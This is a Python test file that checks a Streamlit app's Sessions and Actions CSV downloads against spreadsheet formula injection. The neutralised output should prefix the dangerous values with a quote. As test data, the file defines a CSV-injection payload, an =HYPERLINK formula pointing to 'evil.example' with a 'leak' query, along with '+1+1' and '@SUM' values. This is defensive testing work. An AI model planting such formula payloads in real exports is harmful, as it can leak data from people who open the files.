"""Issue 9 item 6: the Sessions and Actions pages' CSV downloads are neutralised (AppTest, real
bundled server). The tables' CSV is made when the button is clicked (issue 17: not on every
rerun), by a callable Streamlit keeps under the button's deferred file id; the test keeps those
callables as Streamlit registers them, runs the button's own, and compares its bytes with the
neutralised CSV of the rows shown."""

from __future__ import annotations

import csv
import io
import os
from collections.abc import Callable

import pytest
from streamlit.runtime.media_file_manager import MediaFileManager

from stemgui.csv_safe import safe_csv
from stemgui.gui.records import OPEN_COLUMN
from tests.gui.apptest import logged_in

EVIL = '=HYPERLINK("http://evil.example/?leak","open me")'


@pytest.fixture
def deferred(monkeypatch) -> dict[str, Callable[[], bytes]]:
    """file id -> the callable of every deferred download the pages register (still registered)."""
    made: dict[str, Callable[[], bytes]] = {}
    register = MediaFileManager.add_deferred

    def keep(self, data, *args, **kwargs) -> str:
        file_id = register(self, data, *args, **kwargs)
        made[file_id] = data
        return file_id

    monkeypatch.setattr(MediaFileManager, "add_deferred", keep)
    return made


def _offered(at, key: str, deferred: dict[str, Callable[[], bytes]]) -> bytes:
    """What the download button ``key`` gives when clicked (made only then)."""
    button = next(b for b in at.get("download_button") if b.proto.id.endswith(key))
    assert not button.proto.url, "the CSV is made on click, not on every rerun"
    return deferred[button.proto.deferred_file_id]()


def test_sessions_csv_neutralises_a_formula_name(make_user, deferred):
    user = make_user("editor")
    project = user.api.list_all("project")[0]["id"]
    name = f"{EVIL} {os.getpid()}"
    user.api.save_model("session", data={"name": name, "projects": [project], "description": "+1+1"})

    at = logged_in(user)
    frame = at.dataframe[0].value.drop(columns=OPEN_COLUMN)  # the table's buttons, not data
    assert name in set(frame["name"])
    offered = _offered(at, "sessions.csv", deferred)
    assert offered == safe_csv(frame)
    assert offered != frame.to_csv(index=False).encode()
    rows = {row["name"]: row for row in csv.DictReader(io.StringIO(offered.decode()))}
    assert rows["'" + name]["description"] == "'+1+1"


def test_actions_csv_neutralises_a_formula_description_and_keeps_negative_numbers(make_user, deferred):
    user = make_user("editor")
    subject = user.api.list_all("subject")[0]["id"]
    action = {
        "type": "OpticFiberImplant", "subject": subject, "description": f"@SUM(1) {os.getpid()}",
        "details": {"fiberTipShape": "flat"}, "coordinates_system": "Stereotaxic_BregmaAbsolute",
        "coordinates_details": {"apCoordinate": -1.5, "mlCoordinate": 2.0, "dvCoordinate": -3.0},
    }  # fmt: skip
    saved = user.api.save_model("action", data=action)["action"]

    at = logged_in(user, "pages/actions.py")
    frame = at.dataframe[0].value.drop(columns=OPEN_COLUMN)  # the table's buttons, not data
    offered = _offered(at, "actions.csv", deferred)
    assert offered == safe_csv(frame, index=True)
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(offered.decode()))}
    assert rows[saved["id"]]["description"] == "'" + action["description"]
